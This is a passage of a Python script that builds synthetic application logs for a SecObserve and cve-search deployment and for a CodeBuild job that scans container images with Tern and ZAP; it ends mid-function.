SCANNERS = ["Trivy", "Gitleaks", "Semgrep", "OWASP ZAP", "CycloneDX", "Checkov"]
ENGINEERS = ["a.nowak", "j.okonkwo", "m.schulz", "r.tanaka"]
VIA4_SEARCHABLES = ["refmap.ms", "refmap.bid", "refmap.osvdb", "refmap.redhat", "refmap.debian", "msbulletin.bulletin_id",
                    "redhat.rpms", "redhat.advisories.rhsa.id"]
INDEXES = (
    [("cpe", f) for f in ("id", "vendor", "product", "deprecated", "cpeName", "title", "stem", "padded_version",
                          "lastModified")]
    + [("cpeother", "id")]
    + [("cves", f) for f in ("id", "vulnerable_configuration", "vulnerable_product", "modified", "published",
                             "lastModified", "cvss", "cvss3", "cvss4", "cvss_data", "summary", "vendors", "products",
                             "assigner", "cwe", "status", "vulnerable_product_stems",
                             "vulnerable_configuration_stems", "epss")]
    + [("via4", "id"), ("mgmt_whitelist", "id"), ("mgmt_blacklist", "id")]
    + [("capec", f) for f in ("id", "loa", "typical_severity", "name", "related_weakness")]
    + [("cwe", f) for f in ("id", "name", "status")])


def log_message(message=None, data=None, username=None, request=None, response=None, exception=None):
    """SecObserve's commons/services/log_message.py format_log_message: a
    dict's str(). `request` is (method, path, client ip), `exception`
    (class path, text)."""
    d = {}
    if message:
        d["message"] = message
    elif exception:
        d["message"] = exception[1]
    else:
        d["message"] = "No message given"
    for key, value in (data or {}).items():
        d["data_" + str(key)] = str(value)
    if username:
        d["user"] = username
    if request:
        d["request_method"], d["request_path"], d["request_client_ip"] = request
    if response:
        d["response_status"] = str(response)
    if exception:
        if message:
            d["exception_message"] = exception[1]
        d["exception_class"] = exception[0]
    return str(d)


def tqdm_line(desc, total, secs, rate=None, unit="it"):
    """A tqdm bar off a terminal (stderr): its first and last states, each
    after a carriage return, on one line."""
    if rate is None:
        rate = total / secs
    speed = ("%5.2f%s/s" % (rate, unit)) if rate >= 1 else ("%5.2fs/%s" % (1 / rate, unit))
    return ("\r%s:   0%%|          | 0/%d [00:00<?, ?%s/s]\r%s: 100%%|██████████| %d/%d [00:%02d<00:00, %s]"
            % (desc, total, unit, desc, total, total, secs, speed))


def stream_secobserve_cvesearch():
    stream = []
    ids = Ids()
    so = Program("secobserve", "secobserve.core", logging.Formatter(SECOBSERVE), stream)
    so.handler.addFilter(ids)
    gun = Program("gunicorn", "gunicorn.error", logging.Formatter(gunicorn.glogging.Logger.error_fmt,
                                                                   gunicorn.glogging.Logger.datefmt), stream)
    gun.handler.addFilter(ids)
    cs = Program("cve-search", "DBUpdater", logging.Formatter(CVESEARCH), stream)
    so_logs = {name: lg(so, name) for name in (
        "secobserve.import_observations", "secobserve.licenses", "secobserve.background_tasks",
        "secobserve.access_control", "secobserve.core", "secobserve.epss", "secobserve.exception_handler",
        "secobserve.notifications", "secobserve.tasks", "secobserve.import_observations.cyclone_dx.dependencies",
        "secobserve.import_observations.parsers.ocsf", "secobserve.metrics", "huey")}
    glog = lg(gun, "gunicorn.error")
    cs_logs = {name: lg(cs, name) for name in (
        "DBUpdater", "CPERedisBrowser", "__main__", "lib.Authentication", "lib.ApiRequests",
        "CveXplore.core.database_maintenance.main_updater", "CveXplore.core.database_maintenance.sources_process",
        "CveXplore.core.nvd_nist.nvd_nist_api", "CveXplore.core.database_indexer.db_indexer",
        "CveXplore.core.database_version.db_version_checker")}

    GUNICORN_PID, HUEY_PID = 1, 11
    WORKER_THREADS = [140146532317056, 140146523924352, 140146515531648, 140146507138944]
    HUEY_THREAD = 140146498746240
    workers = [19, 20, 21]

    def so_log(name, level, msg, *args, pid=None, thread=None, exc_info=None):
        ids.process = pid if pid is not None else workers[0]
        ids.thread = thread if thread is not None else WORKER_THREADS[0]
        so_logs[name].log(level, msg, *args, exc_info=exc_info)

    def web(n, name, level, msg, *args, exc_info=None):
        so_log(name, level, msg, *args, pid=workers[n % len(workers)], thread=WORKER_THREADS[n % 4], exc_info=exc_info)

    def task(name, level, msg, *args, exc_info=None):
        so_log(name, level, msg, *args, pid=HUEY_PID, thread=HUEY_THREAD, exc_info=exc_info)

    def huey_warning(msg, *args, name="huey", exc=None):
        # The "huey" logger has the console handler and propagates to the
        # root's: the same handler prints each record twice ("huey.consumer"
        # has none of its own and reaches both).
        ids.process, ids.thread = HUEY_PID, HUEY_THREAD
        log = so_logs["huey"]
        record = log.makeRecord(name, logging.ERROR if exc else logging.WARNING, "/usr/local/lib/python3.12/"
                                "site-packages/huey/api.py", 399, msg, args, exc, func="_execute")
        log.handle(record)
        log.handle(record)

    def gunicorn_log(level, msg, *args, pid=GUNICORN_PID):
        ids.process, ids.thread = pid, 140146540709760
        glog.log(level, msg, *args)

    def c(name, level, msg):
        cs_logs[name].log(level, colored(level, msg))

    def trace_text(fn):
        try:
            fn()
        except Exception:
            return traceback.format_exc()

    # SecObserve's backend container.
    def so_start(migrations=None, stale=False):
        printed(stream, "wait-for-it.sh: waiting 15 seconds for secobserve-db.c9xq2ab3kd1e.eu-west-1.rds.amazonaws.com"
                ":5432")
        printed(stream, "wait-for-it.sh: secobserve-db.c9xq2ab3kd1e.eu-west-1.rds.amazonaws.com:5432 is available "
                "after 0 seconds")
        printed(stream, "Database is available")
        printed(stream, "Operations to perform:")
        printed(stream, "  Apply all migrations: access_control, admin, auth, authtoken, background_tasks, commons, "
                "constance, contenttypes, core, epss, import_observations, issue_tracker, licenses, metrics, "
                "notifications, rules, sessions, vex")
        printed(stream, "Running migrations:")
        if migrations:
            for m in migrations:
                printed(stream, "  Applying %s... OK" % m)
        else:
            printed(stream, "  No migrations to apply.")
        printed(stream, "Admin user: admin")
        printed(stream, "Initialization detected that the admin user admin already exists in your database.")
        printed(stream, "0 static files copied to '/app/staticfiles', 1262 unmodified.")
        if stale:
            huey_warning("Found stale locks: %s" % "Import observations from API configurations and OSV",
                         name="huey.consumer")
        so_log("secobserve.import_observations", logging.INFO, "Registering parsers...", pid=13,
               thread=140146540709760)
        printed(stream, "GUNICORN_THREADS is not set, defaulting to 10")
        printed(stream, "GUNICORN_LIMIT_REQUEST_FIELD_SIZE is not set, defaulting to 16380")
        gunicorn_log(logging.INFO, "Starting gunicorn %s", "23.0.0")
        gunicorn_log(logging.INFO, "Listening at: %s (%s)", "http://0.0.0.0:5000", GUNICORN_PID)
        gunicorn_log(logging.INFO, "Using worker: %s", "gthread")
        for pid in workers:
            gunicorn_log(logging.INFO, "Booting worker with pid: %s", pid, pid=pid)

    def periodic(name, body):
        task("secobserve.background_tasks", logging.INFO, "--- %s - start ---", name)
        try:
            body()
        except Exception as e:
            task("secobserve.background_tasks", logging.ERROR, log_message(
                message="Error while executing periodic background task", data={"function": body.__name__},
                exception=("%s.%s" % (type(e).__module__, type(e).__qualname__), str(e))))
            task("secobserve.background_tasks", logging.ERROR, traceback.format_exc())
            return
        task("secobserve.background_tasks", logging.INFO, "--- %s - finished ---", name)

    # cve-search: the web container, then the updater's loop.
    def cve_web():
        printed(stream, "+ exec python3 /app/web/index.py")
        c("__main__", logging.INFO, "Initializing FlaskAppManager...")
        c("__main__", logging.INFO, "Initialization complete, call the run method to start the app!")
        c("lib.Authentication", logging.WARNING, "Could not find auth loader file!")
        c("__main__", logging.INFO, "Trying to start the app...")
        c("__main__", logging.INFO, "Running version: 5.1.0.dev6")

    loop_count = [0]

    def cve_update(epss=False, via4=False, nvd_error=False, index_error=False):
        loop_count[0] += 1
        c("DBUpdater", logging.INFO, "==========================")
        c("DBUpdater", logging.INFO, "Update [cpe, cve, cwe, capec, via4, epss] ; CPE redis cache enabled (loop #%d)"
          % loop_count[0])
        c("DBUpdater", logging.INFO, now("%a %d %B %Y %H:%M"))
        c("DBUpdater", logging.INFO, "==========================")
        c("CveXplore.core.database_maintenance.main_updater", logging.INFO, "Starting Database update...")
        sp = "CveXplore.core.database_maintenance.sources_process"
        for kind, count in (("CPE", 1843 + 211 * loop_count[0]), ("CVE", 96 + 17 * loop_count[0])):
            c("CveXplore.core.nvd_nist.nvd_nist_api", logging.INFO, "NVD NIST API Key found!")
            c(sp, logging.INFO, "%s database update started" % kind)
            c(sp, logging.INFO, "Starting download...")
            c(sp, logging.INFO, "Retrieving %ss starting from %s" % (kind, "2024-05-11 %02d:%02d:%02d.%06d" % (
                13 + loop_count[0] % 2, 44 - loop_count[0], 45, 120000 + 3517 * loop_count[0])))
            c(sp, logging.INFO, "Preparing to download %d %s entries" % (count, kind))
            if nvd_error and kind == "CVE":
                c(sp, logging.ERROR, "Retrieval of api data on url: https://services.nvd.nist.gov/rest/json/cves/"
                  "2.0?lastModStartDate=2024-05-11T13:41:45&lastModEndDate=2024-05-11T14:44:44&startIndex=0&"
                  "resultsPerPage=2000 failed....")
            printed(stream, tqdm_line("Downloading and processing content", count, 4 + count // 400))
            if kind == "CVE":
                c(sp, logging.WARNING, "Missing keys in processed data: cve.metrics.cvssMetricV31 missing from %d "
                  "items" % (11 + loop_count[0] * 3))
                if loop_count[0] % 2 == 0:
                    c(sp, logging.WARNING, "Missing keys in processed data: cve.weaknesses missing from 4 items")
            c(sp, logging.INFO, "Duration: 0:00:%02d.%06d" % (9 + count // 300, 517203 + loop_count[0] * 7919))
            c(sp, logging.INFO, "Finished %s database update" % kind)
        for kind in ("CWE", "CAPEC"):
            c(sp, logging.INFO, "%s database update started" % kind)
            c(sp, logging.INFO, "Skipped %s database update" % kind)
        c(sp, logging.INFO, "VIA4 database update started")
        if via4:
            c(sp, logging.INFO, "Downloading files (max 10 workers)")
            printed(stream, tqdm_line("Downloading files", 1, 7, rate=1 / 7.21))
            printed(stream, tqdm_line("Processing downloaded files", 1, 38, rate=1 / 38.4))
            printed(stream, tqdm_line("Transferring queue to database", 29, 12))
            c(sp, logging.INFO, "Duration: 0:00:58.114027")
            c(sp, logging.INFO, "Finished VIA4 database update")
        else:
            c(sp, logging.INFO, "Skipped VIA4 database update")
        if epss:
            c(sp, logging.INFO, "EPSS database update started")
            c(sp, logging.INFO, "Downloading files (max 10 workers)")
            printed(stream, tqdm_line("Downloading files", 1, 2, rate=1 / 2.08))
            printed(stream, tqdm_line("Processing downloaded files", 1, 6, rate=1 / 6.55))
            printed(stream, tqdm_line("Transferring queue to database", 27, 31))
            c(sp, logging.INFO, "Duration: 0:00:41.903366")
            c(sp, logging.INFO, "Finished EPSS database update")
        idx = "CveXplore.core.database_indexer.db_indexer"
        for field in VIA4_SEARCHABLES:
            c(idx, logging.INFO, "Success to create index %s on %s" % (field, "via4"))
        for col, field in INDEXES:
            if index_error and col == "cves" and field == "summary":
                c(idx, logging.ERROR, "Failed to create index %s on %s: %s" % (col, [(field, "text")],
                  "An equivalent index already exists with the same name but different options. Requested index: "
                  "{ v: 2, key: { _fts: \"text\", _ftsx: 1 }, name: \"summary\", weights: { summary: 1 } }, "
                  "existing index: { v: 2, key: { _fts: \"text\", _ftsx: 1 }, name: \"summary_text\", weights: { "
                  "summary: 1 } }, full error: {'ok': 0.0, 'errmsg': 'An equivalent index already exists with the "
                  "same name but different options.', 'code': 85, 'codeName': 'IndexOptionsConflict'}"))
                continue
            c(idx, logging.INFO, "Success to create index %s on %s" % ([(field, "text" if field == "summary" else 1)],
                                                                       col))
        c("CveXplore.core.database_version.db_version_checker", logging.INFO, "Updating schema version")
        c("CveXplore.core.database_version.db_version_checker", logging.INFO, "Update schema version done!")
        c("CveXplore.core.database_maintenance.main_updater", logging.INFO, "Database update complete!")
        c("CveXplore.core.database_maintenance.main_updater", logging.INFO, "Update Total duration: 0:0%d:%02d.%06d"
          % (1 + loop_count[0] % 3, 13 + loop_count[0] * 7 % 40, 421337 + loop_count[0] * 104729 % 500000))
        c("DBUpdater", logging.INFO, "Skipping non-configured source: cpeother")
        c("DBUpdater", logging.INFO, "Starting redis-cache-cpe")
        c("CPERedisBrowser", logging.INFO, "Redis CPE database update started")
        printed(stream, tqdm_line("Inserting CPE's in redis", 1843 + 211 * loop_count[0], 3))
        c("CPERedisBrowser", logging.INFO, "Duration: 0:00:03.%06d" % (118273 + loop_count[0] * 6007))
        c("DBUpdater", logging.INFO, "redis-cache-cpe updated")
        c("DBUpdater", logging.INFO, "Sleeping 1 hour...")

    printed(stream, "+ exec python3 /app/sbin/db_updater.py -l -c")
    c("CveXplore.core.nvd_nist.nvd_nist_api", logging.INFO, "NVD NIST API Key found!")
    cve_web()
    so_start()

    metrics_runs = 0
    for n in range(150):
        who = ENGINEERS[n % len(ENGINEERS)]
        product = PRODUCTS[n % len(PRODUCTS)]
        ip = "10.40.%d.%d" % (3 + n % 3, 17 + n * 7 % 200)
        # CI pipelines upload their scanners' reports (nothing logged), and
        # the engineers sign in to triage.
        if n % 9 == 1:
            web(n, "secobserve.access_control", logging.INFO, log_message(
                message="User logged in", username=who, request=("POST", "/api/authentication/authenticate/", ip)))
            web(n, "secobserve.access_control", logging.INFO, log_message(
                message="User authenticated", username=who, request=("POST", "/api/authentication/authenticate/", ip),
                response=200))
        if n % 13 == 6:
            web(n, "secobserve.access_control", logging.INFO, log_message(
                message="User login failed: ", data={"username": who.replace(".", ""), "password": "*" * 20},
                request=("POST", "/api/authentication/authenticate/", ip)))
        if n % 7 == 3:
            web(n, "secobserve.exception_handler", logging.WARNING, log_message(
                request=("POST", "/api/import/file_upload_observations_by_name/", "10.40.8.%d" % (30 + n)),
                response=401, exception=("rest_framework.exceptions.AuthenticationFailed",
                                         "API token has expired." if n % 2 else "Invalid API token.")))
        if n % 11 == 8:
            web(n, "secobserve.exception_handler", logging.WARNING, log_message(
                username=who, request=("PATCH", "/api/observations/%d/assessment/" % (48211 + n), ip), response=403,
                exception=("rest_framework.exceptions.PermissionDenied",
                           "You do not have permission to perform this action.")))
        if n % 10 == 4:
            web(n, "secobserve.import_observations.cyclone_dx.dependencies", logging.WARNING,
                "Component with BOM ref %s not found", "pkg:npm/%%40babel/runtime@7.24.%d?package-id=%x" % (
                    n % 6, 0x3f9a1c2e0b + n))
        if n % 16 == 12:
            web(n, "secobserve.import_observations.parsers.ocsf", logging.INFO,
                "Class UID %s is not supported, only %s / DetectionFinding", 2003, 2004)
        if n == 20:
            # A pipeline uploads a SARIF report too big for one field: the exception handler logs it.
            def upload():
                def save():
                    raised("django.db.utils", "DataError", "value too long for type character varying(2048)")
                save()
            text = trace_text(upload)
            web(n, "secobserve.exception_handler", logging.ERROR, log_message(
                username="ci-web-shop", request=("POST", "/api/import/file_upload_observations_by_name/",
                                                 "10.40.8.51"), response=500,
                exception=("django.db.utils.DataError", "value too long for type character varying(2048)")))
            web(n, "secobserve.exception_handler", logging.ERROR, text)
        if n == 35:
            # A big import holds a worker past gunicorn's timeout.
            gunicorn_log(logging.CRITICAL, "WORKER TIMEOUT (pid:%s)", workers[1])
            gunicorn_log(logging.ERROR, "Worker (pid:%s) was sent SIGKILL! Perhaps out of memory?", workers[1])
            workers[1] = 57
            gunicorn_log(logging.INFO, "Booting worker with pid: %s", workers[1], pid=workers[1])
        # huey's periodic tasks.
        if n % 3 == 0:
            metrics_runs += 1
            if n in (27, 54, 81, 132):
                huey_warning("Task %s not run, %s.", "5c9e%04x-6a1b-4f0e-9d3c-%012x" % (n, 0x2b7e151628ae + n),
                             "unable to acquire lock Calculate product metrics")
            else:
                periodic("Calculate product metrics", lambda: None)
        if n % 16 == 5:
            def api_import():
                for k, p in enumerate(PRODUCTS[:4]):
                    config = "%s / %s" % (p, ["Dependency-Track", "Dependency-Track", "GitLab SAST",
                                              "Dependency-Track"][k])
                    if n == 21 and k == 2:
                        task("secobserve.import_observations", logging.WARNING, "API import - %s: failed with "
                             "exception", config)

                        def api_import_observations():
                            raised("requests.exceptions", "HTTPError", "502 Server Error: Bad Gateway for url: "
                                   "https://dtrack.corp.example.com/api/v1/finding/project/4f0e9c1a-7b2d-4e8f-a6c3-"
                                   "91d0b5e27f48?suppressed=false")
                        try:
                            api_import_observations()
                        except Exception:
                            task("secobserve.tasks", logging.ERROR, log_message(
                                message="Error while executing background task", data={
                                    "function": "task_api_import", "arguments": {}},
                                exception=("requests.exceptions.HTTPError", "502 Server Error: Bad Gateway for url: "
                                           "https://dtrack.corp.example.com/api/v1/finding/project/4f0e9c1a-7b2d-4e8f-"
                                           "a6c3-91d0b5e27f48?suppressed=false")))
                            task("secobserve.tasks", logging.ERROR, traceback.format_exc())
                        continue
                    task("secobserve.import_observations", logging.INFO, "API import - %s: %s new, %s updated, %s "
                         "resolved", config, (n + k) % 4, (n * k) % 7, k % 2)
                for p in PRODUCTS:
                    task("secobserve.import_observations", logging.INFO, "OSV scanning - %s: %s new, %s updated, %s "
                         "resolved", p, n % 3, (n + len(p)) % 5, 0)
            api_import.__name__ = "task_api_import"
            periodic("Import observations from API configurations and OSV", api_import)
        if n == 40:
            # The daily EPSS and cvss-bt import.
            def import_epss():
                for row in (["CVE-2024-3094", "10.0", "9.8", "CRITICAL", "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
                             "0.87", "True"], ["CVE-2023-44487", "7.5", "7.5", "HIGH"]):
                    task("secobserve.epss", logging.WARNING, "Row doesn't have 17 elements: %s", row)
            import_epss.__name__ = "task_import_epss"
            periodic("Import EPSS and cvss-bt", import_epss)
        if n == 42:
            def housekeeping():
                for p, b in (("web-shop", "dependabot/npm_and_yarn/braces-3.0.3"), ("web-shop", "renovate/vite-5.x"),
                             ("payments-api", "feature/PAY-1182-refund-webhooks")):
                    task("secobserve.core", logging.INFO, "Deleting branch %s for product %s" % (b, p))
            housekeeping.__name__ = "task_branch_housekeeping"
            periodic("Branch housekeeping", housekeeping)
        if n in (22, 46, 80, 120):
            task("secobserve.notifications", logging.ERROR, log_message(
                message="Error while calling MS Teams webhook https://contoso.webhook.office.com/webhookb2/7d3c2f1e-"
                        "0b9a-4c8d-a1e2-3f4b5c6d7e8f@72f988bf-86f1-41af-91ab-2d7cd011db47/IncomingWebhook/4a1b2c3d",
                exception=("requests.exceptions.HTTPError", "400 Client Error: Bad Request for url: https://contoso."
                           "webhook.office.com/webhookb2/7d3c2f1e-0b9a-4c8d-a1e2-3f4b5c6d7e8f@72f988bf-86f1-41af-91ab-"
                           "2d7cd011db47/IncomingWebhook/4a1b2c3d")))
        if n == 60:
            # The task is redeployed with a new image: migrations, then a stale lock from the killed consumer.
            gunicorn_log(logging.INFO, "Handling signal: %s", "term")
            for pid in workers:
                gunicorn_log(logging.INFO, "Worker exiting (pid: %s)", pid, pid=pid)
            gunicorn_log(logging.INFO, "Shutting down: %s", "Master")
            workers[:] = [18, 19, 20]
            so_start(migrations=["core.0066_observation_vex_remediations", "licenses.0021_license_policy_ignore"],
                     stale=True)
        # cve-search: the hourly update, and the team's API look-ups.
        if n % 36 == 2:
            cve_update(epss=(n == 38), via4=(n == 74), nvd_error=(n == 110), index_error=(n == 146))
        if n % 9 == 5:
            web(n, "secobserve.access_control", logging.INFO, log_message(
                message="User logged out", username=ENGINEERS[(n + 1) % 4], request=("POST",
                                                                                  "/api/authentication/logout/", ip)))
        if n in (15, 63):
            web(n, "secobserve.access_control", logging.INFO, log_message(
                message="API token created", username=who, request=("POST", "/api/users/create_user_api_token/", ip),
                response=200))
        if n == 64:
            web(n, "secobserve.access_control", logging.INFO, log_message(
                message="API token revoked", username=who, request=("POST", "/api/users/revoke_user_api_token/", ip),
                response=204))
            web(n, "secobserve.core", logging.INFO, log_message(
                message="Product API token created", request=("POST", "/api/products/%d/create_product_api_token/"
                                                              % (3 + n % 5), ip), response=200))
        if n % 19 == 10:
            web(n, "secobserve.import_observations", logging.WARNING, "OSV vulnerability %s not found",
                "GHSA-%s-%s-%s" % ("4x5r", "hp9v", "c6ff") if n % 2 else "PYSEC-2024-%d" % (60 + n))
        if n == 101:
            web(n, "secobserve.import_observations", logging.ERROR, "Invalid PURL %s: %s",
                "pkg:pypi/Django@4.2.11?vcs_url=git+https://github.com/django/django@4.2.11#egg=django[argon2]",
                "Invalid purl 'pkg:pypi/Django@4.2.11?vcs_url=git+https://github.com/django/django@4.2.11#egg=django"
                "[argon2]' string: invalid qualifier value")
        if n in (33, 77, 128):
            for lic in ("LicenseRef-scancode-proprietary-license", "BUSL-1.1-or-later"):
                web(n, "secobserve.licenses", logging.WARNING, "SPDX license %s not found in database.", lic)
        if n % 12 == 9:
            c("lib.ApiRequests", logging.WARNING, "Validation on %s not succeeded: %s" % (
                {"retrieve": "cves", "dict_filter": {"vulnerable_product": "cpe:2.3:a:apache:log4j:2.14.1"},
                 "limit": 0}, "'limit' must be an integer greater than 0"))
    return {"name": "secobserve-cvesearch", "programs": [so, gun, cs], "records": stream, "auto": False}


# --------------------------------------------------------------------------
# A CodeBuild project's security gate (one stream per build; this build
# runs after the services' images are pushed to ECR): Tern inventories
# each image's packages into an SPDX document, then ZAP's baseline scan
# (its stable image, under docker run) checks the staging deployments;
# the admin UI's staging host is down, so its scan fails and the build
# with it.

REGISTRY = "482911470323.dkr.ecr.eu-west-1.amazonaws.com"
TERN_SRC = SITE + "tern/"
WORK = "/root/.tern/temp"


def stream_tern_zap():
    stream = []
    tn = Program("tern", "ternlog", logging.Formatter(TERN), stream)
    zp = Program("zap-baseline", "root", logging.Formatter(ZAP), stream)
    tlog = lg(tn, "ternlog")
    zroot = lg(zp, "root")
    pool = lg(zp, "urllib3.connectionpool")

    def t(level, path, msg, *args, func="<module>"):
        at(tlog, level, TERN_SRC + path, 1, func, msg, *args)

    def cmd(words):
        t(logging.DEBUG, "utils/rootfs.py", "Running command: %s", " ".join(words), func="root_command")

    def z(msg, level=logging.DEBUG):
        zroot.log(level, msg)

    def hook(name, n):
        z("Trigger hook: %s, args: %s" % (name, n))

    def c(text):
        container(stream, text)

    def blob(seed):
        return hashlib.sha256(seed.encode()).hexdigest()

    # The build's start.
    for line in ("Waiting for agent ping", "Waiting for DOWNLOAD_SOURCE", "Phase is DOWNLOAD_SOURCE",
                 "CODEBUILD_SRC_DIR=/codebuild/output/src1460322751/src",
                 "YAML location is /codebuild/output/src1460322751/src/ci/buildspec-security.yml",
                 "Setting HTTP client timeout to higher timeout for S3 source", "Processing environment variables",
                 "No runtime version selected in buildspec.",
                 "Moving to directory /codebuild/output/src1460322751/src",
                 "Phases found in YAML: 3", " INSTALL: 3 commands", " PRE_BUILD: 1 commands", " BUILD: 5 commands",
                 "Phase complete: DOWNLOAD_SOURCE State: SUCCEEDED", "Phase context status code:  Message: ",
                 "Entering phase INSTALL", "Running command apt-get -qq update && apt-get -qq install -y skopeo "
                 "attr >/dev/null"):
        c(line)
    printed(stream, "debconf: delaying package configuration, since apt-utils is not installed")
    c("Running command pip3 install --quiet tern==2.12.1")
    printed(stream, "WARNING: Running pip as the 'root' user can result in broken permissions and conflicting "
            "behaviour with the system package manager. It is recommended to use a virtual environment instead: "
            "https://pip.pypa.io/warnings/venv")
    c("Running command docker pull --quiet ghcr.io/zaproxy/zaproxy:stable")
    printed(stream, "ghcr.io/zaproxy/zaproxy:stable")
    for line in ("Phase complete: INSTALL State: SUCCEEDED", "Phase context status code:  Message: ",
                 "Entering phase PRE_BUILD",
                 "Running command aws ecr get-login-password | skopeo login --username AWS --password-stdin %s"
                 % REGISTRY):
        c(line)
    printed(stream, "Login Succeeded!")
    c("Phase complete: PRE_BUILD State: SUCCEEDED")
    c("Phase context status code:  Message: ")
    c("Entering phase BUILD")

    cached = set()

    def tern(image, layers, distroless=False, snippet_fail=False, empty=(), dpkg_error=False):
        c("Running command tern report -f spdxjson -i %s/%s -o reports/%s.spdx.json" % (
            REGISTRY, image, image.split(":")[0]))
        t(logging.DEBUG, "__main__.py", "Starting...", func="do_main")
        t(logging.DEBUG, "prep.py", "Setting up...", func="setup")
        cmd(["chmod", "+x", TERN_SRC + "tools/fs_hash.sh"])
        t(logging.DEBUG, "analyze/default/container/run.py", "Starting analysis...", func="execute_image")
        t(logging.DEBUG, "load/skopeo.py", 'Attempting to pull image "%s"', "%s/%s" % (REGISTRY, image),
          func="pull_image")
        t(logging.DEBUG, "utils/rootfs.py", "Running command: %s", "skopeo copy docker://%s/%s dir:%s" % (
            REGISTRY, image, WORK), func="shell_command")
        digests = []
        for k, (created_by, base) in enumerate(layers):
            d = blob(base if base else image + created_by)
            digests.append(d)
            tar = "%s/%s" % (WORK, d)
            t(logging.DEBUG, "utils/rootfs.py", "Running command: %s", "tar -tf " + tar, func="shell_command")
            t(logging.DEBUG, "utils/rootfs.py", "Running command: %s", "tar -x -f %s -C %s/%d/contents" % (
                tar, WORK, k + 1), func="shell_command")
            cmd([TERN_SRC + "tools/fs_hash.sh", "%s/%d/contents" % (WORK, k + 1)])
        # The first layer: from the cache, or analysed in a chroot.
        first = digests[0]
        if first in cached:
            t(logging.DEBUG, "analyze/common.py", 'Loading packages from cache: layer "%s"', first[:10],
              func="load_packages_from_cache")
            t(logging.DEBUG, "analyze/common.py", 'Loading files from cache: layer "%s"', first[:10],
              func="load_files_from_cache")
        elif distroless:
            t(logging.DEBUG, "analyze/common.py", "Reading files in filesystem...", func="load_from_cache")
            t(logging.WARNING, "analyze/default/container/single_layer.py", "No known shell found in image. Cannot "
              "invoke commands\n", func="analyze_first_layer")
            t(logging.WARNING, "analyze/default/container/single_layer.py", "Unable to find a known package manager. "
              "Cannot list packages.\n", func="analyze_first_layer")
        else:
            cached.add(first)
            t(logging.DEBUG, "analyze/common.py", "Reading files in filesystem...", func="load_from_cache")
            merge = WORK + "/mergedir"
            t(logging.DEBUG, "utils/rootfs.py", "Running command: %s", "tar -tf %s/%s" % (WORK, first),
              func="shell_command")
            t(logging.DEBUG, "utils/rootfs.py", "Running command: %s", "tar -x -f %s/%s -C %s" % (WORK, first, merge),
              func="shell_command")
            cmd(["cp", "/etc/resolv.conf", merge + "/etc/resolv.conf"])
            t(logging.DEBUG, "analyze/default/core.py", "Collecting metadata for image layer...", func="execute_base")
            for snippet in ("dpkg --get-selections | cut -f1 -d':' | awk '{print $1}'",
                            "pkgs=`dpkg --get-selections | cut -f1 -d':' | awk '{print $1}'`; for p in $pkgs; do "
                            "dpkg -l $p | awk 'NR>5 {print $3}'; done",
                            "pkgs=`dpkg --get-selections | cut -f1 -d':' | awk '{print $1}'`; for p in $pkgs; do "
                            "dpkg -l $p | awk 'NR>5 {print $4}'; done",
                            "pkgs=`dpkg --get-selections | cut -f1 -d':' | awk '{print $1}'`; for p in $pkgs; do "
                            "cat /usr/share/doc/$p/copyright; echo CUT HERE; done",
                            "pkgs=`dpkg --get-selections | cut -f1 -d':' | awk '{print $1}'`; for p in $pkgs; do "
                            "dpkg -s $p | grep Homepage | cut -d' ' -f2; done"):
                cmd(["chroot", merge, "/bin/sh", "-c", snippet])
                if dpkg_error and "Homepage" in snippet:
                    t(logging.ERROR, "utils/rootfs.py", "Command failed. %s", "dpkg-query: warning: files list file "
                      "for package 'libgcc-s1:arm64' missing; assuming package has no files currently installed\n"
                      "dpkg-query: warning: files list file for package 'libstdc++6:arm64' missing; assuming package "
                      "has no files currently installed\n", func="root_command")
                    t(logging.WARNING, "utils/rootfs.py", "Error executing command in chroot",
                      func="run_chroot_command")
                    t(logging.WARNING, "analyze/default/collect.py", "Error executing snippets: %s",
                      "Command '%s' returned non-zero exit status 1." % snippet, func="invoke_in_rootfs")
            t(logging.DEBUG, "analyze/default/core.py", "Processing Debian copyrights...", func="execute_base")
            if dpkg_error:
                t(logging.ERROR, "analyze/default/core.py", "Script invocation error. Unable to collect some metadata",
                  func="execute_base")
                t(logging.WARNING, "analyze/default/core.py", "Some metadata may be missing", func="execute_base")
        # The later layers: mounted over the first, their commands looked up.
        for k in range(1, len(layers)):
            if k in empty:
                t(logging.WARNING, "analyze/default/container/multi_layer.py", "Empty layer. Nothing to do.\n",
                  func="analyze_subsequent_layers")
                continue
            lower = ":".join("%s/%d/contents" % (WORK, j) for j in range(k, 0, -1))
            cmd(["mount", "-t", "overlay", "overlay", "-o", "lowerdir=%s,upperdir=%s/%d/contents,workdir=%s/workdir"
                 % (lower, WORK, k + 1, WORK), WORK + "/mergedir"])
            created_by = layers[k][0]
            if created_by.startswith("RUN /bin/sh -c pip install") or created_by.startswith("RUN pip"):
                t(logging.WARNING, "analyze/default/command_lib/command_lib.py", "%s", "No listing method for "
                  "'pip'. Additional analysis may be required.\n", func="get_package_listing")
                if snippet_fail:
                    t(logging.WARNING, "utils/rootfs.py", "Error executing command in chroot",
                      func="run_chroot_command")
                    t(logging.WARNING, "analyze/default/collect.py", "Error executing snippets: %s",
                      "Command 'pip3 list --format=freeze' returned non-zero exit status 1.", func="invoke_in_rootfs")
            elif "apt-get install" in created_by:
                cmd(["chroot", WORK + "/mergedir", "/bin/sh", "-c", "apt-cache depends --installed --no-suggests "
                     "--no-conflicts --no-breaks --no-replaces --no-enhances --no-recommends --recurse libpq5 "
                     "| grep '^\\w'"])
            cmd(["umount", "-rl", WORK + "/mergedir"])
        t(logging.DEBUG, "formats/spdx/spdxjson/generator.py", "Generating SPDX JSON document...", func="generate")
        t(logging.DEBUG, "prep.py", "Tearing down...", func="teardown")
        for k in range(len(layers)):
            cmd(["rm", "-rf", "%s/%d/contents" % (WORK, k + 1)])
        t(logging.DEBUG, "__main__.py", "Finished", func="do_main")

    PY = ("ADD file:4b1be1de1a1e5aa608c688cad2824587262081866180d7368feb79d33ca05953 in / ",
          "python:3.12-slim-bookworm")
    tern("orders-api:3f9a1c2", [PY, ("ENV PYTHONUNBUFFERED=1", None),
                                ("RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends libpq5 "
                                 "&& rm -rf /var/lib/apt/lists/*", None),
                                ("COPY requirements.txt . # buildkit", None),
                                ("RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit", None),
                                ("COPY src/ /app/ # buildkit", None)], empty=(1,))
    tern("payments-worker:3f9a1c2", [PY, ("RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt", None),
